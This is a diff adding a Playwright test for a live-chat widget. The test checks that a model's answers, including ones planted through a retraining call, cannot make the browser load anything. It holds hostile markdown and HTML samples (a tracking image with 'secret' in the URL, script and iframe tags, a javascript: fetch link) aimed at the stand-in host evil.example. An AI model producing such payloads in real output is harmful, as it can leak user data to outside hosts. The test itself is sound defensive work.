@@ -1,0 +1,65 @@
+// A model that wants the reader's browser to fetch, follow or run something gets nowhere, and neither does the text.
+
+import type { BrowserContext } from '@playwright/test'
+import { api } from '@switchboard/contract'
+import { signInHere } from './support/account.ts'
+import { expect, type LiveChat, log, openChat, test, write } from './support/talk.ts'
+
+const EVIL = [
+  '![pixel](https://evil.example/a.png?q=secret)',
+  '<img src="https://evil.example/b.png"><script src="https://evil.example/c.js"></script>',
+  '<iframe src="https://evil.example/d"></iframe> <style>@import "https://evil.example/e.css"</style>',
+  '[click](javascript:fetch("https://evil.example/f")) ![ref][g]',
+  '[g]: https://evil.example/g.png',
+].join('\n\n')
+
+/** Whatever the browser asked an evil host for, on any page. */
+function watchEvil(context: BrowserContext): string[] {
+  const asked: string[] = []
+  context.on('request', (request) => {
+    if (request.url().includes('evil.example')) asked.push(request.url())
+  })
+  return asked
+}
+
+const teach = ({ account, agent }: LiveChat, question: string) =>
+  account.client.call(api.messages.retrain, {
+    body: {
+      agent_id: agent.id,
+      mistakes: [{ user_message: question, bot_answer: '', right_answer: `${EVIL}\n\nThe end.` }],
+    },
+  })
+
+test('what a model says makes neither the widget nor the console load anything', async ({
+  page,
+  context,
+  liveChat,
+  visit,
+  model,
+  baseURL,
+}) => {
+  const asked = watchEvil(context)
+  const chat = await liveChat()
+  await teach(chat, 'Tell me the worst')
+  model.answers(`${EVIL}\n\nThat is all I have to say.`)
+  await visit(chat)
+  await openChat(page)
+  await write(page, 'What have you got to say?')
+  const said = log(page).locator('.message.ai .bubble')
+  await expect(said.last()).toContainText('That is all I have to say.')
+  await expect(said.last()).not.toContainText('evil.example')
+
+  // Even word for word it is nothing but text.
+  await write(page, 'Tell me the worst')
+  await expect(said.last()).toContainText('The end.')
+  await expect(log(page).locator('img, script, iframe, style, [href^="javascript:"]')).toHaveCount(0)
+
+  const desk = await context.newPage()
+  await signInHere(desk, baseURL!, chat.account)
+  await desk.goto('/?section=livechat')
+  await desk.getByRole('listitem').filter({ hasText: 'The end.' }).getByRole('link').click()
+  const thread = desk.getByRole('log')
+  await expect(thread).toContainText('The end.')
+  await expect(thread.locator('img, script, iframe, style, [href^="javascript:"]')).toHaveCount(0)
+  expect(asked).toEqual([])
+})
